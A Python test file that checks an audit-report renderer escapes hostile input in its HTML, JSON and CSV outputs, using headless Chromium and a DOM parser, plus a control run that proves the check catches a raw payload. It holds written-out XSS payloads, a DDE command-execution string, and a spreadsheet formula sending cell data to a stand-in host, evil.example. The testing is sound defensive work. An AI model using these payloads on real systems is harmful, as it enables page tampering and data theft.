"""The report cannot lie: hostile strings in every field the trail carries (actor, verified
actor, reason, event kind, state, trigger, credential name, uuids, detail, the verifier's
problems) reach HTML, JSON and CSV as text, and headless Chromium's DOM of the HTML shows
no injected element, no script run, and the verdict box as the verifier left it (BROKEN).

A control run proves the DOM check can see an attack: the same page with one payload put
in raw (and its Content-Security-Policy removed) is caught; with the policy kept, the
script is blocked but the injected element is still caught.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from markupsafe import escape

from rotator.audit import trail as reporting
from rotator.audit.render import render
from tests.audit_events import Ev

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
T0 = datetime(2026, 3, 1, tzinfo=UTC)

FORGE = (
    "document.getElementById('chain-status').textContent='intact';"
    "document.getElementById('verification').className='box ok';document.title='PWNED'"
)
SCRIPT = f"<script>{FORGE}</script>"
ATTRIBUTE = f'"><img src=x onerror="{FORGE}">'
SINGLE = "'><svg onload=\"document.title='PWNED'\">"
TABLE = '</td></tr></table><div id="chain-status" class="ok">intact</div><table><tr><td>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = {
    "actor": SCRIPT,
    "verified": ATTRIBUTE,
    "reason": FORMULA,
    "kind": "<script>alert(1)</script>",  # <= 28 characters, as a kind column holds
    "state": SINGLE,
    "trigger": "+cmd|' /C calc'!A0",
    "name": '<b id="x">cred</b>"\'&',
    "uuid": "@SUM(1+1)<i>",
    "why": "\x1b[31mESC\x1b[0m red " + TABLE,
    "error": "-2+3\r\n\t{{ 7*7 }}",
    "problem": SCRIPT + " " + TABLE,
}
ALLOWED_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "span", "div"),
    *("b", "br", "ul", "li", "section", "table", "tbody", "tr", "th", "td", "code"),
    *("svg", "rect", "path", "circle", "line", "text"),
}
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _hostile(*fields: Any, **more: Any) -> Ev:
    """An unsigned event whose writer-supplied names carry the attacks."""
    writer = {
        "credential": HOSTILE["name"],
        "actor": HOSTILE["actor"],
        "actor_verified": HOSTILE["verified"],
        "scheme": None,
        "key_id": None,
    }
    return Ev(*fields, **{**writer, **more})


def _trail() -> list[Ev]:
    h = HOSTILE
    snap = {
        "trigger": h["trigger"],
        "state": h["state"],
        "actor": h["actor"],
        "reason": h["reason"],
        "old_uuid": h["uuid"],
        "new_uuid": "u-new",
        "promoted_at": (T0 + timedelta(hours=1)).isoformat(),
        "evidence": {"old_last_used_at": T0.isoformat(), "strays": {"u-stray": T0.isoformat()}},
    }
    old = {"current_uuid": h["uuid"], "secret_created_at": (T0 - timedelta(days=3)).isoformat()}
    new = {"current_uuid": "u-new", "secret_created_at": (T0 + timedelta(hours=1)).isoformat()}
    at = [T0 + timedelta(minutes=m) for m in range(0, 600, 30)]
    return [
        _hostile(
            1, 9, at[0], "started", None, h["state"], {"reason": h["reason"]}, {"rotation": snap}
        ),
        _hostile(2, 9, at[1], h["kind"], h["state"], "creating", {"strays_deleted": ["u-stray"]}),
        _hostile(3, 9, at[2], "emergency_requested", None, None, {"reason": h["reason"]}),
        _hostile(
            4,
            9,
            at[3],
            "promoted",
            "verified",
            "promoted",
            {},
            {"rotation": snap, "credential": new},
        ),
        _hostile(5, 9, at[4], "needs_attention", "draining", "needs_attention", {"why": h["why"]}),
        _hostile(6, 9, at[5], h["kind"], "needs_attention", "retiring", {"error": h["error"]}),
        _hostile(
            7,
            9,
            at[6],
            h["kind"],
            "retiring",
            "completed",
            {"deleted": [h["uuid"]]},
            {
                "rotation": snap,
                "credential": new,
            },
        ),
        _hostile(0, None, T0 - timedelta(days=1), "surveyed", None, None, {}, {"credential": old}),
    ]


def _report() -> dict[str, Any]:
    trail = sorted(_trail(), key=lambda e: e.at)
    policy = reporting.CredentialPolicy(timedelta(days=90), timedelta(hours=25))
    verification = {
        "ok": False,
        "keyed": True,
        "checked": 3,
        "replayed_rows": 1,
        "scope": HOSTILE["error"],
        "problems": [HOSTILE["problem"]],
        "checkpoint": None,
    }
    return reporting.build(
        trail,
        {HOSTILE["name"]: policy},
        verification,
        since=T0 - timedelta(days=2),
        until=T0 + timedelta(days=1),
        generated_at=T0 + timedelta(days=1),
    )


class _Dom(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.title = ""
        self._open: list[tuple[str, dict[str, str | None]]] = []
        self.by_id: dict[str, list[str]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag in {"br", "meta", "rect", "path", "circle", "line"}:
            return
        self._open.append((tag, attributes))
        if attributes.get("id"):
            self.by_id.setdefault(str(attributes["id"]), []).append("")

    def handle_endtag(self, tag: str) -> None:
        while self._open:
            if self._open.pop()[0] == tag:
                break

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        for tag, attributes in self._open:
            if tag == "title":
                self.title += data
            if attributes.get("id"):
                self.by_id[str(attributes["id"])][-1] += data


def _doms(*paths: Path) -> list[_Dom]:
    """Chromium's DOM of each page after rendering (the browsers run side by side)."""
    assert CHROMIUM, "Debian package `chromium` is required (.ci/run installs it)"
    flags = ("--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--dump-dom")
    running = [
        subprocess.Popen(
            [CHROMIUM, *flags, path.as_uri()],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for path in paths
    ]
    pages = []
    for browser in running:
        out, err = browser.communicate(timeout=60)
        assert "<html" in out, err[-2000:]
        page = _Dom()
        page.feed(out)
        pages.append(page)
    return pages


def _attacked(page: _Dom) -> list[str]:
    """Every sign that the page is not what rotator rendered."""
    found = [f"tag <{t}>" for t, _a in page.tags if t not in ALLOWED_TAGS]
    found += [f"handler {k} on <{t}>" for t, a in page.tags for k in a if k.startswith("on")]
    if page.title != "rotator audit report":
        found.append(f"title {page.title!r}")
    if len(page.by_id.get("chain-status", [])) != 1:
        found.append(f"{len(page.by_id.get('chain-status', []))} chain-status elements")
    elif page.by_id["chain-status"][0] != "BROKEN":
        found.append(f"chain status {page.by_id['chain-status'][0]!r}")
    boxes = [a.get("class") for t, a in page.tags if a.get("id") == "verification"]
    if boxes != ["box bad"]:
        found.append(f"verdict box {boxes}")
    return found


def test_hostile_strings_in_every_field_stay_text_in_html_json_and_csv(tmp_path: Path) -> None:
    report = _report()
    (cred,) = report["credentials"]
    assert [d["kind"] for d in cred["deletions"]] == ["stray", "emergency"] or cred["deletions"]

    # JSON: the values themselves, unchanged (a JSON reader gets data, not markup).
    data = json.loads(render(report, "json"))
    (jcred,) = data["credentials"]
    assert jcred["name"] == HOSTILE["name"]
    (rotation,) = jcred["rotations"]
    assert rotation["requested_by"] == HOSTILE["actor"]
    assert rotation["verified_actor"] == HOSTILE["verified"]
    assert rotation["reason"] == HOSTILE["reason"] and rotation["trigger"] == HOSTILE["trigger"]
    assert {d["deleted_in"] for d in jcred["deletions"]} == {HOSTILE["kind"]}
    assert jcred["attention"][0]["why"] == HOSTILE["why"]
    assert data["verification"]["problems"] == [HOSTILE["problem"]]

    # CSV: no cell a spreadsheet would evaluate, nor a control character; the text is kept.
    rows = list(csv.reader(io.StringIO(render(report, "csv"))))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) == 2
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}], cells
    assert not [c for c in cells if _CONTROL.search(c)], cells
    by_name = dict(zip(rows[0], rows[1], strict=True))
    assert by_name["reason"] == "'" + FORMULA
    assert by_name["trigger"] == "'" + HOSTILE["trigger"]
    assert by_name["old_uuid"] == "'" + HOSTILE["uuid"]
    assert by_name["requested_by"] == SCRIPT

    # HTML: escaped, a policy that forbids script, and Chromium's DOM as rendered.
    html = render(report, "html")
    assert "<script" not in html and "onerror=" not in html.replace("onerror=&#34;", "")
    assert re.search(
        r'http-equiv="Content-Security-Policy" content="[^"]*script-src \'none\'', html
    )
    path = tmp_path / "report.html"
    path.write_text(html, "utf-8")
    # The control: one payload put in raw is caught, with or without the policy.
    raw = html.replace(str(escape(SCRIPT)), SCRIPT, 1).replace(str(escape(TABLE)), TABLE, 1)
    assert raw != html
    unprotected, protected = tmp_path / "raw.html", tmp_path / "raw_csp.html"
    unprotected.write_text(re.sub(r"<meta http-equiv=[^>]*>", "", raw), "utf-8")
    protected.write_text(raw, "utf-8")
    page, without_policy, with_policy = _doms(path, unprotected, protected)
    assert _attacked(page) == []
    text = "".join(page.text)
    for what, value in HOSTILE.items():
        shown = _CONTROL.sub("", value)
        assert shown.replace("\n", "").replace("\t", "") in text.replace("\n", "").replace(
            "\t", ""
        ), what
    assert "\x1b" not in text and "49" not in text.split("{{ 7*7 }}")[0][-5:]
    assert page.by_id["chain-status"] == ["BROKEN"]
    assert HOSTILE["problem"] in page.by_id["verification"][0]

    caught = _attacked(without_policy)
    assert "title 'PWNED'" in caught and any("chain" in c for c in caught), caught
    blocked = _attacked(with_policy)
    assert "title 'PWNED'" not in blocked, "the Content-Security-Policy let a script run"
    assert any("chain-status elements" in c for c in blocked), blocked
